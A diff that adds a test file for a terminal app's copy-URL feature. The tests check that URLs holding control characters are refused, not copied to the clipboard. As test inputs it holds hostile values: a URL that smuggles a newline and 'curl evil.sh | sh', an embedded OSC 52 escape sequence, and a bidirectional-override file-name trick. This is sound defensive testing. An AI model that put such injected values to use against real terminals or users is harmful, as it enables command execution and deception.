@@ -1,0 +1,135 @@
+// `c` on a URL with a control character in it: the screen shows it escaped (^J), and the
+// clipboard must not get it raw (pasted into a shell, the newline runs the next line). Checked on
+// the bytes the App writes: the OSC 52 payloads, decoded.
+import { render } from "ink-testing-library";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { createClient } from "../../src/api/client.js";
+import { buildConfig } from "../../src/config.js";
+import { DEMO_STATUS_LABELS } from "../../src/demo/data.js";
+import { type DemoServer, startDemoServer } from "../../src/demo/server.js";
+import { planCopy } from "../../src/model/copy-plan.js";
+import { MASK } from "../../src/model/secrets.js";
+import { Monitor } from "../../src/poll/monitor.js";
+import { App } from "../../src/ui/App.js";
+
+let demo: DemoServer;
+let cleanup: (() => void) | undefined;
+beforeAll(async () => {
+  demo = await startDemoServer({ port: 0, tickMs: 0 });
+});
+afterAll(async () => {
+  await demo.close();
+});
+afterEach(() => {
+  cleanup?.();
+});
+
+const strip = (s: string) => s.replace(/\x1b\[[0-9;]*m/g, "");
+const payloads = (written: string[]) =>
+  [...written.join("").matchAll(/\x1b\]52;c;([A-Za-z0-9+/=]*)\x07/g)].map((m) =>
+    Buffer.from(m[1] ?? "", "base64").toString("utf8"),
+  );
+
+/** The App on the demo service, the top job's URLs replaced by `urls`. */
+async function appWithUrls(urls: string[], shown: string) {
+  const config = buildConfig(
+    { demo: true, once: false, bell: false, clipboard: "osc52" },
+    { statusLabels: DEMO_STATUS_LABELS },
+  );
+  const monitor = new Monitor({
+    client: createClient({ baseUrl: demo.url, token: demo.token, timeoutMs: 2000 }),
+    perPage: 20,
+    order: "desc",
+    intervalMs: 200,
+    listIntervalMs: 400,
+  });
+  const written: string[] = [];
+  const r = render(<App monitor={monitor} config={config} writeRaw={(s) => written.push(s)} />);
+  monitor.start();
+  cleanup = () => {
+    r.unmount();
+    monitor.stop();
+  };
+  const waitFor = async (test: (f: string) => boolean) => {
+    const until = Date.now() + 5000;
+    while (!test(strip(r.lastFrame() ?? ""))) {
+      if (Date.now() > until)
+        throw new Error(
+          `timed out; frame:\n${strip(r.lastFrame() ?? "")
+            .split("\n")
+            .slice(-4)
+            .join("\n")}`,
+        );
+      await new Promise((res) => setTimeout(res, 30));
+    }
+    return strip(r.lastFrame() ?? "");
+  };
+  const first = Number(/Job (\d+)/.exec(await waitFor((f) => /Job \d+/.test(f)))?.[1]);
+  const job = demo.getJob(first);
+  if (!job) throw new Error("no job");
+  job.app.urls = { port_8888: { urls } };
+  await waitFor((f) => f.includes(shown));
+  return { ...r, written, waitFor };
+}
+
+describe("copying a URL with control characters", () => {
+  it("copies a clean URL (the check below could see a payload)", async () => {
+    const app = await appWithUrls(["https://gw.example:30888/lab?token=tok-clean-1"], "gw.example:30888");
+    app.stdin.write("c");
+    await app.waitFor((f) => f.includes("sent to the terminal clipboard"));
+    expect(payloads(app.written)).toEqual(["https://gw.example:30888/lab?token=tok-clean-1"]);
+  });
+
+  it("refuses a URL with a newline, and says why", async () => {
+    const app = await appWithUrls(["https://gw.example/x\ncurl evil.sh | sh"], "x^Jcurl");
+    app.stdin.write("c");
+    const f = await app.waitFor((x) => x.includes("not copied"));
+    expect(f).toContain(
+      "URL [1] https://gw.example/x^Jcurl evil.sh | sh not copied: it contains control characters",
+    );
+    expect(payloads(app.written)).toEqual([]);
+  });
+
+  it("copies the clean ones of several, and names the ones left out", async () => {
+    const app = await appWithUrls(
+      ["ssh://gw.example:30022", "https://gw.example/\u001b]52;c;aGk=\u0007"],
+      "[2] ",
+    );
+    app.stdin.write("c");
+    await app.waitFor((f) => f.includes("Copy which URL?"));
+    app.stdin.write("a");
+    await app.waitFor((f) => f.includes("left out"));
+    expect(payloads(app.written)).toEqual(["ssh://gw.example:30022"]);
+  });
+});
+
+describe("planCopy", () => {
+  it("masks secrets and escapes controls in what it says", () => {
+    expect(planCopy([{ n: 2, url: "https://u:pw@h/?token=t1" }])).toEqual({
+      text: "https://u:pw@h/?token=t1",
+      what: `URL [2] https://u:${MASK}@h/?token=${MASK}`,
+    });
+    const bidi = planCopy([{ n: 1, url: "https://h/\u202egnp.exe?token=t2" }]);
+    expect(bidi.text).toBeUndefined();
+    expect(bidi.what).toBe(
+      `URL [1] https://h/<U+202E>gnp.exe?token=${MASK} not copied: it contains control characters`,
+    );
+  });
+
+  it("refuses all when every one has controls", () => {
+    const p = planCopy([
+      { n: 1, url: "a\rb" },
+      { n: 2, url: "c\u0000d" },
+    ]);
+    expect(p).toEqual({ text: undefined, what: "2 URLs not copied: each contains control characters" });
+  });
+
+  it("copies many clean ones joined by newlines", () => {
+    expect(
+      planCopy([
+        { n: 1, url: "ssh://a" },
+        { n: 2, url: "https://b" },
+      ]),
+    ).toEqual({ text: "ssh://a\nhttps://b", what: "2 URLs" });
+  });
+});
